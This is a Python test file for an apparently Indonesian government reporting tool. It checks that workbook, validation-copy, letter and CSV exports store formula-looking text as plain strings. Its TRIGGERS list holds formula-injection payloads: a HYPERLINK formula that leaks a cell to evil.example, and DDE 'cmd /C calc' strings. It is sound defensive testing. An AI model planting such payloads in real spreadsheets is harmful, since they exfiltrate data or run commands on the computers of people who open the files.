"""Every download keeps an operator's text as text: no formula reaches a spreadsheet we hand out.

Read back from the files themselves (the sheet XML inside the .xlsx: no `<f>` element anywhere; the text
is in a string cell, verbatim) for: the template writer (pre-filled workbook from a stored version), the
highlighted validation copy, the measurability letter, the widgets' table/chart downloads and CSV.
"""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from kesbang import dataset, settings
from kesbang.analysis import measurability
from kesbang.exports import tables as export
from kesbang.exports import template
from kesbang.intake import loader, report

TRIGGERS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "=1+1",
]
SAMPLE = Path(settings.SAMPLE_DIR) / "62.02_2026.xlsx"


def formulas(xlsx: bytes) -> list[str]:
    """Every formula element of every worksheet part."""
    found = []
    with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                found += re.findall(rb"<f[ >][^<]*", z.read(name))
    return [f.decode() for f in found]


def text_cells(xlsx: bytes) -> set[str]:
    wb = openpyxl.load_workbook(io.BytesIO(xlsx))
    return {c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row
            if isinstance(c.value, str) and c.data_type == "s"}


def hostile_submission():
    sub = loader.load_submission(SAMPLE.read_bytes(), SAMPLE.name).submission
    ind = sub.indikator.copy()
    for col in ("indikator", "faktor_pendorong", "faktor_penghambat", "tindak_lanjut", "satuan", "sumber_data"):
        ind[col] = [TRIGGERS[i % len(TRIGGERS)] + f" {col}{i}" for i in range(len(ind))]
    nil = sub.nilai.copy()
    for col in ("kegiatan", "lokasi", "sasaran", "narasi"):
        nil[col] = [TRIGGERS[i % len(TRIGGERS)] + f" {col}{i}" for i in range(len(nil))]
    pas = sub.paskibraka.copy()
    pas["catatan"] = [TRIGGERS[i % len(TRIGGERS)] for i in range(len(pas))]
    sub.indikator, sub.nilai, sub.paskibraka = ind, nil, pas
    sub.identitas["perangkat_daerah"] = TRIGGERS[0]
    sub.identitas["operator"] = TRIGGERS[2]
    return sub


def test_template_writer_keeps_formula_text_as_text():
    sub = hostile_submission()
    data = template.write_submission(sub, "62.02", 2026)
    assert formulas(data) == []
    cells = text_cells(data)
    assert set(TRIGGERS) <= cells  # catatan and identitas hold the bare triggers
    back = loader.load_submission(data, "kembali.xlsx")
    assert back.ok, [i.code for i in back.errors]
    # the same text (the loader trims surrounding white space, the leading tab included)
    assert back.submission.indikator["faktor_pendorong"].tolist() == [
        v.strip() for v in sub.indikator["faktor_pendorong"]]
    assert back.submission.identitas["operator"] == TRIGGERS[2]
    # the blank pre-filled template too
    assert formulas(template.write_submission(None, "62.02", 2026)) == []


def test_highlighted_copy_keeps_the_bad_value_as_text():
    sub = hostile_submission()
    wb = openpyxl.load_workbook(io.BytesIO(template.write_submission(sub, "62.02", 2026)))
    ws = wb["Indikator"]
    header = {c.value: c.column for c in ws[1] if c.value}
    # a number column holding formula-looking text: an error whose value the report repeats
    col = next(c for name, c in header.items() if "Realisasi" in str(name))
    ws.cell(2, col).value = TRIGGERS[0]
    ws.cell(2, col).data_type = "s"
    buf = io.BytesIO()
    wb.save(buf)
    data = buf.getvalue()
    assert formulas(data) == []
    result = loader.load_submission(data, "=salah.xlsx")
    assert any(i.value == TRIGGERS[0] for i in result.errors), [(i.code, i.value) for i in result.errors][:5]
    for lang in ("id", "en"):
        copy = report.highlighted_copy(data, result, lang)
        assert formulas(copy) == []
        cells = text_cells(copy)
        assert TRIGGERS[0] in cells
        assert any("=salah.xlsx" in c for c in cells)  # the file name in the title stays text too
        # string cells carry Excel's quotePrefix style, so editing them in Excel keeps them text:
        # the issue value in the issues sheet and the flagged cell in the operator's own sheet
        out = openpyxl.load_workbook(io.BytesIO(copy))
        listed = [c for row in out.worksheets[0].iter_rows() for c in row if c.value == TRIGGERS[0]]
        assert listed and all(c.data_type == "s" and c.quotePrefix for c in listed)
        flagged = out["Indikator"].cell(2, col)
        assert flagged.value == TRIGGERS[0] and flagged.data_type == "s" and flagged.quotePrefix


def test_issues_only_copy_of_a_broken_file_keeps_text():
    result = loader.load_submission(b"not a workbook", "=HYPERLINK(1).xlsx")
    copy = report.highlighted_copy(b"not a workbook", result, "id")
    assert formulas(copy) == [] and any("=HYPERLINK(1).xlsx" in c for c in text_cells(copy))


def test_measurability_letter_keeps_text():
    sub = hostile_submission()
    sub.indikator["satuan"] = None  # a finding on every indicator: no unit
    ds = dataset.from_submissions([(sub, {"submission_id": 1, "version": 1, "status": "submitted"})])
    results = measurability.audit(ds.indicators, ds.rpjmd, ds.submissions)
    assert not results.empty
    tables = measurability.letter_tables(results, "id")
    data = export.to_xlsx(tables)
    assert formulas(data) == []
    names = {v for frame in tables.values() for v in frame.to_numpy().ravel() if isinstance(v, str)}
    hostile_names = {n for n in names if n.startswith(tuple(t[0] for t in TRIGGERS))}
    assert hostile_names, "the letter lists the hostile indicator names"
    assert hostile_names <= text_cells(data)


@pytest.mark.parametrize("value", TRIGGERS + ["-", "=", "+"])
def test_table_downloads_keep_text_and_numbers(value):
    frame = pd.DataFrame({"Nama berkas": [value], "Komentar": [value + " x"], "Nilai": [-5.5]})
    data = export.to_xlsx(frame, sheet_name="Data")
    assert formulas(data) == []
    ws = openpyxl.load_workbook(io.BytesIO(data)).active
    assert (ws["A2"].value, ws["B2"].value, ws["C2"].value) == (value, value + " x", -5.5)
    assert ws["A2"].data_type == "s" and ws["C2"].data_type == "n"
    csv_text = export.to_csv(frame).decode("utf-8-sig")
    first = csv_text.splitlines()[1] if "\t" not in value else csv_text.split("\n", 1)[1]
    assert first.lstrip('"').startswith("'"), first  # the OWASP escape: a leading apostrophe
    assert "-5.5" in first and "'-5.5" not in first  # a negative number stays a number
